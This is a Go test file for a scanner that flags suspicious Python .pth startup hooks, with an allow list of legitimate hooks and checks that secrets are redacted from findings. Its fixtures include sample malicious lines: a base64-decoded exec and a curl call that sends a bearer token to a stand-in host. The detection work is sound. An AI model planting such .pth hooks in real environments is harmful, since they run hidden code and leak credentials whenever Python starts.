package python

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/litesweep/litesweep/sweep/sweeptest"
)

func TestSiteLayout(t *testing.T) {
	for _, tc := range []struct {
		site string
		want Layout
	}{
		{"/home/a/proj/.venv/lib/python3.11/site-packages", Layout{"/home/a/proj/.venv", "site", "3.11"}},
		{"/usr/lib/python3/dist-packages", Layout{"/usr", "system", "3"}},
		{"/usr/local/lib/python3.11/dist-packages", Layout{"/usr/local", "system", "3.11"}},
		{"/usr/lib64/python3.12/site-packages", Layout{"/usr", "system", "3.12"}},
		{"/home/a/.local/lib/python3.11/site-packages", Layout{"/home/a/.local", "user-site", "3.11"}},
		{"/opt/py/lib/python3.13t/site-packages", Layout{"/opt/py", "site", "3.13"}},
		{"/Users/a/Library/Python/3.12/lib/python/site-packages", Layout{"/Users/a/Library/Python/3.12", "user-site", "3.12"}},
		{"/Library/Frameworks/Python.framework/Versions/3.12/lib/python3.12/site-packages", Layout{"/Library/Frameworks/Python.framework/Versions/3.12", "framework", "3.12"}},
		{"/opt/homebrew/lib/python3.12/site-packages", Layout{"/opt/homebrew", "homebrew", "3.12"}},
		{"/home/a/.pyenv/versions/3.11.7/lib/python3.11/site-packages", Layout{"/home/a/.pyenv/versions/3.11.7", "pyenv", "3.11"}},
		{"/home/a/.pyenv/versions/3.11.7/envs/work/lib/python3.11/site-packages", Layout{"/home/a/.pyenv/versions/3.11.7/envs/work", "pyenv-virtualenv", "3.11"}},
		{"/home/a/.local/share/pipx/venvs/black/lib/python3.11/site-packages", Layout{"/home/a/.local/share/pipx/venvs/black", "pipx", "3.11"}},
		{"/home/a/.local/share/uv/tools/ruff/lib/python3.12/site-packages", Layout{"/home/a/.local/share/uv/tools/ruff", "uv-tool", "3.12"}},
		{"/home/a/.local/share/uv/python/cpython-3.12.4-linux-x86_64-gnu/lib/python3.12/site-packages", Layout{"/home/a/.local/share/uv/python/cpython-3.12.4-linux-x86_64-gnu", "uv-python", "3.12"}},
		{"/home/a/.cache/pypoetry/virtualenvs/app-AbCd1234-py3.11/lib/python3.11/site-packages", Layout{"/home/a/.cache/pypoetry/virtualenvs/app-AbCd1234-py3.11", "poetry", "3.11"}},
		{"/home/a/.local/share/hatch/env/virtual/app/x1/app/lib/python3.11/site-packages", Layout{"/home/a/.local/share/hatch/env/virtual/app/x1/app", "hatch", "3.11"}},
		{"/home/a/.local/share/virtualenvs/app-Xy12/lib/python3.11/site-packages", Layout{"/home/a/.local/share/virtualenvs/app-Xy12", "pipenv", "3.11"}},
		{"/home/a/.local/share/pdm/venvs/app-1a2b-3.11/lib/python3.11/site-packages", Layout{"/home/a/.local/share/pdm/venvs/app-1a2b-3.11", "pdm", "3.11"}},
		{"/home/a/proj/__pypackages__/3.11/lib", Layout{"/home/a/proj", "pep582", "3.11"}},
		{"/Users/a/AppData/Local/Programs/Python/Python311/Lib/site-packages", Layout{"/Users/a/AppData/Local/Programs/Python/Python311", "system", ""}},
		{"/Users/a/proj/.venv/Lib/site-packages", Layout{"/Users/a/proj/.venv", "site", ""}},
		{"/Users/a/AppData/Roaming/Python/Python311/site-packages", Layout{"/Users/a/AppData/Roaming/Python/Python311", "user-site", "3.11"}},
		{"/opt/miniconda3/pkgs/litellm-1.82.8-pyhd8ed1ab_0/site-packages", Layout{"/opt/miniconda3/pkgs/litellm-1.82.8-pyhd8ed1ab_0", "conda-package-cache", ""}},
	} {
		if got := SiteLayout(tc.site); got != tc.want {
			t.Errorf("SiteLayout(%s) = %+v, want %+v", tc.site, got, tc.want)
		}
		if !IsSiteDir(tc.site) {
			t.Errorf("IsSiteDir(%s) = false", tc.site)
		}
	}
	for _, p := range []string{"/usr/lib", "/home/a/proj/lib", "/srv/site-packages-old", "/x/__pypackages__/lib"} {
		if IsSiteDir(p) {
			t.Errorf("IsSiteDir(%s) = true", p)
		}
	}
}

func TestPthClassification(t *testing.T) {
	type want struct {
		exec    int    // executed lines
		allowed string // allow rule for every executed line ("" = not all allowed)
		why     string // Suspicion of the first non-allowed line
	}
	for _, tc := range []struct {
		file string
		want want
	}{
		{"distutils-precedence.pth", want{exec: 1, allowed: "setuptools distutils-precedence.pth"}},
		{"_virtualenv.pth", want{exec: 1, allowed: "virtualenv _virtualenv.pth"}},
		{"__editable__.mypkg-1.0.pth", want{exec: 1, allowed: "setuptools PEP 660 editable finder"}},
		{"__editable__.other-2.0.pth", want{exec: 0}},
		{"a1_coverage.pth", want{exec: 1, allowed: "coverage.py subprocess hook"}},
		{"google_auth-2.0-py3.11-nspkg.pth", want{exec: 1, allowed: "setuptools namespace package (-nspkg.pth)"}},
		{"zope.interface-5.0-nspkg.pth", want{exec: 1, allowed: "setuptools namespace package (-nspkg.pth)"}},
		{"evil-nspkg.pth", want{exec: 1, why: "spawns a process, reaches the network"}},
		{"lookalike-distutils-precedence.pth", want{exec: 1, why: "decodes and executes code"}},
		{"litellm_init.pth", want{exec: 1, why: "decodes and executes code, spawns a process"}},
		{"formfeed.pth", want{exec: 2, why: "decodes and executes code"}},
		{"unknown-hook.pth", want{exec: 1}},
		{"paths-only.pth", want{exec: 0}},
		{"junk.pth", want{exec: 0}}, // binary, and no line starts with "import "
	} {
		t.Run(tc.file, func(t *testing.T) {
			b := sweeptest.Testdata(t, "pth/"+tc.file)
			lines := ExecLines(b)
			if len(lines) != tc.want.exec {
				t.Fatalf("%d executed lines %+v, want %d", len(lines), lines, tc.want.exec)
			}
			allowed, why := "", ""
			for i, l := range lines {
				a := Allowed(tc.file, l.Text)
				if i == 0 {
					allowed = a
				} else if a != allowed {
					allowed = ""
				}
				if a == "" && why == "" {
					why = strings.Join(Suspicion(l.Text), ", ")
				}
			}
			if allowed != tc.want.allowed {
				t.Errorf("allowed %q, want %q", allowed, tc.want.allowed)
			}
			if why != tc.want.why {
				t.Errorf("suspicion %q, want %q", why, tc.want.why)
			}
		})
	}
	// Legitimate content under another name is not recognised by name
	// alone, and a legitimate name does not excuse other content.
	if Allowed("evil.pth", "import _virtualenv") != "" {
		t.Error("_virtualenv line allowed under another name")
	}
	if Allowed("_virtualenv.pth", "import _virtualenv; import os") != "" {
		t.Error("_virtualenv.pth with an extra statement allowed")
	}
	if Allowed("distutils-precedence.pth", "import os") != "" {
		t.Error("distutils-precedence.pth with other content allowed")
	}
}

func TestExecLineSplitting(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"import a\nimport b\r\nimport c\rx\n", []string{"import a", "import b", "import c"}},
		{"\ufeffimport bom\n", []string{"import bom"}},                         // 3.13+ strips the BOM
		{" import indented\n#import no\nimportx\n", nil},                       // exact prefix only
		{"import\ttab\n", []string{"import\ttab"}},                             //
		{"path\vimport hidden\n", []string{"import hidden"}},                   // 3.13 splitlines
		{"import a\x0bexec(x)\n", []string{"import a\x0bexec(x)", "import a"}}, // <=3.12 keeps \v inside the line
		{"import u\u2028import v\n", []string{"import u\u2028import v", "import u", "import v"}},
	} {
		var got []string
		for _, l := range ExecLines([]byte(tc.in)) {
			got = append(got, l.Text)
		}
		if strings.Join(got, "|") != strings.Join(tc.want, "|") {
			t.Errorf("ExecLines(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCodeShape(t *testing.T) {
	const canary = "CANARYs3cr3tV4lue0123456789"
	for _, tc := range []struct{ in, want string }{
		{`import os; exec(__import__('base64').b64decode('` + canary + `'))`, `import os; exec(__import__('…').b64decode('…'))`},
		{`import os;os.environ["OPENAI_API_KEY"]="` + canary + `"`, `import os;os.environ["…"]="…"`},
		{`import _virtualenv`, `import _virtualenv`},
		{`import sys; p = getattr(sys, 'abc', 0)`, `import sys; p = getattr(sys, 'abc', 0)`},
		{`import x # ` + canary, `import x #…`},
		{`import x; y = b"""` + canary + `"""`, `import x; y = b"""…"""`},
		{`import x; y = rb'` + canary, `import x; y = rb'…'`},
		{`import x; y = ` + canary + canary, `import x; y = …`},
		{`import x; y = QUJD+REVG/R0hJSktMTU5PUFFSU1RVVldYWVo=`, `import x; y = …`},
		{"import x\x1b[31m\u202e; y = 'é'", `import x…[31m…; y = '…'`},
		{`import x; y = 'a\'` + canary + `'`, `import x; y = '…'`},
	} {
		got := CodeShape(tc.in)
		if got != tc.want {
			t.Errorf("CodeShape(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if strings.Contains(got, canary) || strings.Contains(got, "s3cr3t") {
			t.Errorf("CodeShape(%q) leaks the canary: %q", tc.in, got)
		}
	}
	long := "import x; " + strings.Repeat("a.b(c); ", 100)
	if got := CodeShape(long); len(got) > maxShape+len("…") {
		t.Errorf("CodeShape of %d bytes = %d bytes", len(long), len(got))
	}
}

// TestPthEvidenceCanary: a secret in a long literal of an executed line
// never reaches a finding or error, whatever the line is judged.
func TestPthEvidenceCanary(t *testing.T) {
	const canary = "LSCANARYq8w7e6r5t4y3u2i1o0"
	root := t.TempDir()
	site := "/home/u/.venv/lib/python3.12/site-packages"
	files := map[string]string{
		"evil.pth":    `import os, subprocess; subprocess.Popen(["curl", "-H", "Authorization: Bearer ` + canary + `", "https://x"])` + "\n",
		"odd.pth":     `import os; os.environ.setdefault("TOKEN", "` + canary + `")` + "\n",
		"binary.pth":  "\x00\x01\xff\n" + `import os; k = '` + canary + `'` + "\n",
		"comment.pth": `import site # ` + canary + "\n",
	}
	for n, body := range files {
		sweeptest.WriteFile(t, root, site+"/"+n, []byte(body))
	}
	res := sweepTree(t, root, sweeptest.Matcher(t), 64<<20)
	if len(res.findings) != len(files) {
		res.dump(t)
		t.Fatalf("%d findings, want %d", len(res.findings), len(files))
	}
	b, err := json.Marshal([]any{res.findings, res.errors})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b, []byte(canary)) || bytes.Contains(b, []byte("q8w7e6")) {
		t.Errorf("canary in findings: %s", b)
	}
}

func TestScanPthLimit(t *testing.T) {
	body := []byte(strings.Repeat("# comment\n", 1000) + "import evil\n")
	var got []PthLine
	st, err := ScanPth(bytes.NewReader(body), 5000, false, func(l PthLine) { got = append(got, l) })
	if !errors.Is(err, ErrPthTooLarge) || st.Bytes != 5000 || len(got) != 0 {
		t.Errorf("limit 5000: err %v, bytes %d, lines %v", err, st.Bytes, got)
	}
	st, err = ScanPth(bytes.NewReader(body), int64(len(body)), false, func(l PthLine) { got = append(got, l) })
	if err != nil || len(got) != 1 || got[0].N != 1001 {
		t.Errorf("exact limit: err %v, bytes %d, lines %+v", err, st.Bytes, got)
	}
}
